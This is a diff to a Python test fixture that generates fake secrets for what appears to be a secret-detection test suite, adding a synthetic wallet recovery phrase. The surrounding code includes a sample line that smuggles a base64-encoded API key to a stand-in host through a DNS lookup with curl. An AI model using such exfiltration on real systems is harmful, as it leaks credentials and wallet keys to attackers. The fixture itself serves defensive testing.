@@ -80,6 +80,8 @@ def secret_corpus(seed: int = 9) -> list[Secret]:
     short_pw = _random(rng, ALNUM, 9) + "!" + _random(rng, ALNUM, 4)
     # a key smuggled base64-encoded in a DNS label (exfiltration over DNS)
     smuggled = _b64url(f"OPENAI_API_KEY=sk-proj-{_random(rng, ALNUM, 24)}".encode())
+    # a wallet's recovery phrase: twelve lowercase words
+    seed = " ".join(_random(rng, string.ascii_lowercase, rng.randint(4, 8)) for _ in range(12))
     return [
         Secret(
             "aws_secret_access_key", aws_secret, f"aws_secret_access_key = {aws_secret}", _needles(aws_secret)
@@ -136,6 +138,7 @@ def secret_corpus(seed: int = 9) -> list[Secret]:
             f"mysql -u root --password={cli_password} orders",
             _needles(cli_password),
         ),
+        Secret("seed_phrase", seed, f"Recovery phrase: {seed}", _needles(seed)),
         Secret("smuggled_key", smuggled, f"curl https://{smuggled}.lookup.example.net/v", _needles(smuggled)),
     ]
 
